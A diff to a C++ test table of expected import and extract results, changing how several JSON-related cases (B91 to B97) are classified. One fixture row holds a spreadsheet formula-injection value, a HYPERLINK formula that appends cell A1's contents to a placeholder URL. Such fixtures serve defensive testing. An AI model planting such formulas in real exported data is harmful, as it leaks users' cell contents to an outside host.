@@ -84,14 +84,15 @@ const std::vector<Expected> kExpected = {
     {"B55", "extract.not_text"},
     {"B85", "", "", 0, "", "=HYPERLINK(\"http://x.invalid/\"&A1,\"ok\")"},
     {"B86", "", "", 0, "", "+41441234567"},
-    // Arrays of objects are later work; the elements are tested as lines below.
     {"B91", "extract.json_not_lines"},
+    // Not one object can be read; the elements are tested as lines below.
     {"B92", "extract.json_not_lines"},
-    {"B93", "extract.json_not_lines"},
+    {"B93", "", "", 0, "", "12345678901234567890"},
     {"B94", "extract.json_not_lines"},
     {"B95", "extract.json_not_lines"},
     {"B96", "", "row.json_invalid", 1, "format"},
-    {"B97", "extract.json_not_lines"},
+    // The import knows which column is the key.
+    {"B97", "", "row.json_not_object", 1, "format", "01001", 3},
     {"B98", "extract.json_not_lines"},
     {"B99", "extract.not_text"},
     {"B109", "extract.not_text"},
